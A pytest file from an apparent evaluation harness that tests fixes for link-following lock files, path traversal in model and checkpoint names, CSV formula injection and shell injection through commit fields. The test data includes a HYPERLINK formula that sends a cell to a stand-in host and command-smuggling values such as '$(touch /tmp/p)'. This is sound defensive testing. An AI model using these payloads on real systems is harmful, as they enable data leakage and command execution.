"""Small holes an altered input opened (issue 49, item 6), each closed: a run directory's `.lock` that links
elsewhere, a predictions file's model name that leaves GSO's report layout, checkpoint files naming files
outside their folder, spreadsheet formulas in CSV cells, GSO commit shas that reach git commands, and
`harness grade` keeping a stored infrastructure error instead of grading again."""
from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from harness.grader.batch import _stored
from harness.grader.config import GradeConfig, patch_sha256
from harness.grader.gso_reports import write_gso_layout
from harness.grader.predictions import Prediction, PredictionsError, load_predictions, model_folder
from harness.tasks.gso import check_rows
from harness.tasks.task import TaskError
from runner.checkpoints import CheckpointDir, Folder
from runner.config import ConfigError
from runner.lock import RunLock
from runner.tables import systems_csv
from scaffolds.checkpoint import FORMAT
from tests.gso_rows import gso_row


@pytest.mark.parametrize("link", ["symbolic", "hard"])
def test_a_lock_file_that_links_elsewhere_is_refused_and_its_target_left_whole(tmp_path: Path, link: str) -> None:
    victim = tmp_path / "notes.txt"
    victim.write_text("a researcher's notes\n")
    run = tmp_path / "run"
    run.mkdir()
    (os.symlink if link == "symbolic" else os.link)(victim, run / ".lock")
    with pytest.raises(ConfigError, match=r"\.lock .*remove it, then run this again"):
        RunLock(run, "run").acquire()
    assert victim.read_text() == "a researcher's notes\n"
    (run / ".lock").unlink()
    with RunLock(run, "run"):  # a plain one is taken as before
        assert "optrunner run" in (run / ".lock").read_text()


def test_a_model_name_that_would_leave_the_report_layout_is_refused(tmp_path: Path) -> None:
    assert model_folder("org/model-7b") == "org__model-7b" and model_folder("..") is None
    path = tmp_path / "predictions.jsonl"
    for name in ("..", "."):
        path.write_text(json.dumps({"instance_id": "t1", "model_patch": "", "model_name_or_path": name}) + "\n")
        with pytest.raises(PredictionsError, match="cannot name a folder of GSO's report layout"):
            load_predictions(path, {"t1"})
    with pytest.raises(ValueError, match="cannot name a folder"):
        write_gso_layout(tmp_path / "out", "r1", {"t1": {"model_name_or_path": ".."}}, {"t1": {"status": "passed"}},
                         ["t1"])
    assert not (tmp_path / "out").exists()


def test_checkpoint_files_cannot_name_files_outside_their_folder(tmp_path: Path) -> None:
    victim = tmp_path / "victim.tar"
    victim.write_bytes(b"keep me")
    folder = tmp_path / "run" / "checkpoints"
    folder.mkdir(parents=True)
    state = {"format": FORMAT, "scaffold": "codeact", "state": {}, "steps": [], "usage": {}, "elapsed_s": 0.0}
    (folder / "t1__0.json").write_text(json.dumps({"image": "img", "state": state,
                                                   "archives": ["../../victim.tar"], "base": "b"}))
    checkpoints = CheckpointDir(folder, "run", remove_image=lambda _image: None)
    assert checkpoints.load("t1", 0) is None  # unreadable: the rollout starts again
    checkpoints.discard("t1", 0)
    assert victim.read_bytes() == b"keep me"
    for name in ("../victim.tar", str(victim), "..", ""):
        with pytest.raises(ValueError, match="not a file name of the checkpoints folder"):
            Folder(folder).remove(name)
    assert victim.read_bytes() == b"keep me"


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text() -> None:
    row = {"system": "=HYPERLINK(\"http://x.example/?\"&A1)", "model": "@SUM(1+1)", "scaffold": "+cmd",
           "budget": "-2+3", "opt_at_1": -0.5, "rollouts": 4}
    text = systems_csv([row])
    cells = text.splitlines()[1].split(",")
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(")
    assert "'@SUM(1+1)" in cells and "'+cmd" in cells and "'-2+3" in cells
    assert "-0.5" in cells and "4" in cells  # numbers stay numbers


@pytest.mark.parametrize("column, value", [("opt_commit", "x; false"), ("base_commit", "$(touch /tmp/p)"),
                                           ("opt_commit", "1a2b3c")])
def test_a_gso_row_whose_commit_is_not_a_sha_is_refused(column: str, value: str) -> None:
    with pytest.raises(TaskError, match=f"column '{column}' of row 1 .* should be a commit sha"):
        check_rows([gso_row(**{column: value})], "rows.jsonl")
    check_rows([gso_row()], "rows.jsonl")


def test_harness_grade_grades_a_stored_infrastructure_error_again(tmp_path: Path) -> None:
    config = GradeConfig()
    pred = Prediction("t1", "diff --git a/x b/x\n", "m", "p:1")
    stored = {"status": "error", "patch_sha256": patch_sha256(pred.model_patch), **config.fields()}
    path = tmp_path / "report.json"
    path.write_text(json.dumps(stored))
    assert _stored(path, pred, config) is None
    path.write_text(json.dumps({**stored, "status": "passed"}))
    assert _stored(path, pred, config) == {**stored, "status": "passed"}


def test_a_ray_nodes_image_lock_is_in_a_folder_of_the_users_own(monkeypatch: pytest.MonkeyPatch,
                                                                 tmp_path: Path) -> None:
    import tempfile

    from runner.executors.ray_node import image_lock

    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    path = image_lock("optrunner/task:abc")
    info = path.parent.stat()
    assert path.parent != Path(tempfile.gettempdir()) and path.parent.is_relative_to(tmp_path / "home")
    assert info.st_uid == os.getuid() and info.st_mode & 0o077 == 0
    assert image_lock("optrunner/task:abc") == path != image_lock("optrunner/task:def")
